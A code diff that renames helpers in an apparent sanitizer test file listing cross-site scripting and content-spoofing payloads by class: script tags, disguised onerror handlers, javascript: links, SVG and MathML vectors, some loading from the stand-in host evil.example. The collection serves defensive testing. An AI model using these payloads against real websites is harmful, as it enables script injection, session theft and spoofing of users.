@@ -1,12 +1,12 @@
-import { type Attack, EVIL, named, RUN } from './attack-kinds.ts'
-import { broken, clobbers, elements, mutations, styles } from './attack-markup.ts'
+import { type Attack, EVIL, attacksOfKind, RUN } from './attack-kinds.ts'
+import { brokenMarkup, clobberingNames, elements, mutations, styles } from './attack-markup.ts'
 
 /**
  * Hostile HTML by class of attack: publicly known cross-site scripting and content spoofing. If the code of an attack
  * is executed, it calls `attacked()`. Attacks load files from evil.example.
  */
 
-const scripts = named('script', [
+const scripts = attacksOfKind('script', [
   `<script>${RUN}</script>`,
   `<script src="${EVIL}.js"></script>`,
   `<script type="module">${RUN}</script>`,
@@ -108,8 +108,8 @@ const events = [
 ]
 
 const handlers = [
-  ...named('event', events),
-  ...named('disguised event', [
+  ...attacksOfKind('event', events),
+  ...attacksOfKind('disguised event', [
     `<img src=x onerror=${RUN}>`,
     `<img src=x ONERROR=${RUN}>`,
     `<img src=x onerror\n=\n"${RUN}">`,
@@ -176,11 +176,11 @@ const hrefs = [
 ]
 
 const links = [
-  ...named(
+  ...attacksOfKind(
     'link',
     hrefs.map((href) => `<a href="${href}">x</a>`),
   ),
-  ...named('other address', [
+  ...attacksOfKind('other address', [
     `<a xlink:href="javascript:${RUN}">x</a>`,
     `<a ping="${EVIL}" href="/Home/hot">x</a>`,
     `<a href="/Home/hot" target="_blank" download="x.exe">x</a>`,
@@ -204,7 +204,7 @@ const links = [
 ]
 
 const vectors = [
-  ...named('SVG', [
+  ...attacksOfKind('SVG', [
     `<svg onload="${RUN}"></svg>`,
     `<svg/onload=${RUN}>`,
     `<svg><script>${RUN}</script></svg>`,
@@ -230,7 +230,7 @@ const vectors = [
     `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
     `<svg><mpath href="${EVIL}.svg"></svg>`,
   ]),
-  ...named('MathML', [
+  ...attacksOfKind('MathML', [
     `<math href="javascript:${RUN}">x</math>`,
     `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
     `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
@@ -248,6 +248,6 @@ export const attacks: readonly Attack[] = [
   ...mutations,
   ...styles,
   ...elements,
-  ...clobbers,
-  ...broken,
+  ...clobberingNames,
+  ...brokenMarkup,
 ]
